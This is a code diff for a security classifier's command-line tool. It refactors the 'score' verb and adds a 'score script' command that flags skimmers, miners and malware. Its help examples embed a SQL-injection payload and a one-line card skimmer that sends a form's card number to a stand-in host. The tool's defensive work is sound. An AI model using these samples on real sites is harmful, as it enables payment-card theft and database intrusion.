@@ -4,29 +4,56 @@ using Weir.Cli.Scoring;
 using Weir.Cli.Shell;
 using Weir.Http;
 using Weir.Http.Rows;
+using Weir.Scripts;
 
 namespace Weir.Cli.Verbs;
 
-/// <summary><c>weir score http</c>: JSON Lines in, one verdict a line out, in the same order.</summary>
+/// <summary><c>weir score http</c> and <c>weir score script</c>: JSON Lines in, one verdict a line out, in the same order.</summary>
 internal static class ScoreVerb
 {
-    public static Command Create() => new("score", "Score rows of a file or a pipe") { CreateHttp() };
+    public static Command Create() => new("score", "Score rows of a file or a pipe")
+    {
+        Create(
+            new Verb("http", "Score HTTP requests or bare values: attack or not, of which class, and why")
+            {
+                Examples =
+                [
+                    "weir score http --input requests.jsonl --output verdicts.jsonl",
+                    """echo '{"kind":"payload","payload":"1 or 1=1--"}' | weir score http""",
+                ],
+            },
+            "http",
+            (model, evidence) =>
+            {
+                HttpScorer scorer = HttpScorer.Load(model);
+                return () => new HttpRows(scorer, evidence);
+            }),
+        Create(
+            new Verb("script", "Score scripts or pages: skimmer, miner, malware or not, and why; no script is ever run")
+            {
+                Examples =
+                [
+                    "weir score script --input scripts.jsonl --output verdicts.jsonl",
+                    """echo '{"code":"new Image().src=\"//cdn.example/?\"+btoa(document.forms[0].cc_number.value)"}' | weir score script""",
+                ],
+            },
+            "script",
+            (model, evidence) =>
+            {
+                ScriptClassifier classifier = ScriptClassifier.Load(model);
+                return () => new ScriptRows(classifier, evidence);
+            }),
+    };
 
-    private static Verb CreateHttp()
+    /// <param name="verb">Name, description and examples.</param>
+    /// <param name="task">First part of a model's file name.</param>
+    /// <param name="load">Loads a model and gives what makes scorers.</param>
+    private static Verb Create(Verb verb, string task, Func<string, EvidenceMode, Func<IRowScorer>> load)
     {
         var input = new Option<string>("--input", "-i") { Description = "JSON Lines, plain or gzip; - is standard input", HelpName = "FILE|-", DefaultValueFactory = _ => InputFile.StandardInput };
         var output = new Option<string>("--output", "-o") { Description = "Where the verdicts go; - is standard output", HelpName = "FILE|-", DefaultValueFactory = _ => OutputFile.StandardOutput };
         var model = new Option<string?>("--model", "-m") { Description = "Model file; without it the newest that ships with the program", HelpName = "FILE" };
         var evidence = Choice.Of<EvidenceMode>("--evidence", "Write the reasons for rows of severity Low and above (auto), for all rows or for none", EvidenceMode.Auto);
-
-        var verb = new Verb("http", "Score HTTP requests or bare values: attack or not, of which class, and why")
-        {
-            Examples =
-            [
-                "weir score http --input requests.jsonl --output verdicts.jsonl",
-                """echo '{"kind":"payload","payload":"1 or 1=1--"}' | weir score http""",
-            ],
-        };
         verb.Add(input);
         verb.Add(output);
         verb.Add(model);
@@ -40,21 +67,20 @@ internal static class ScoreVerb
             }
 
             EvidenceMode mode = Choice.Read<EvidenceMode>(parsed, evidence)!.Value;
-            return await RunAsync(from, parsed.GetValue(output)!, parsed.GetValue(model), mode, parsed.InvocationConfiguration.Error, cancellation).ConfigureAwait(false);
+            return await RunAsync(from, parsed.GetValue(output)!, ModelFiles.Resolve(parsed.GetValue(model), task), path => load(path, mode), parsed.InvocationConfiguration.Error, cancellation).ConfigureAwait(false);
         });
         return verb;
     }
 
-    private static async Task<int> RunAsync(string from, string to, string? model, EvidenceMode evidence, TextWriter error, CancellationToken cancellation)
+    private static async Task<int> RunAsync(string from, string to, string modelFile, Func<string, Func<IRowScorer>> load, TextWriter error, CancellationToken cancellation)
     {
         // What runs before the first await runs before Ctrl-C is watched.
         await Task.Yield();
-        string modelFile = ModelFiles.Resolve(model);
         OutputFile.MustNotReplace(to, from, modelFile);
-        HttpScorer scorer = HttpScorer.Load(modelFile);
+        Func<IRowScorer> scorer = load(modelFile);
         using InputFile input = InputFile.Open(from);
         using OutputFile output = OutputFile.Create(to);
-        var pipeline = new ScorePipeline(scorer, evidence, Environment.ProcessorCount);
+        var pipeline = new ScorePipeline(scorer, Environment.ProcessorCount);
         ScoreTotals totals;
         try
         {
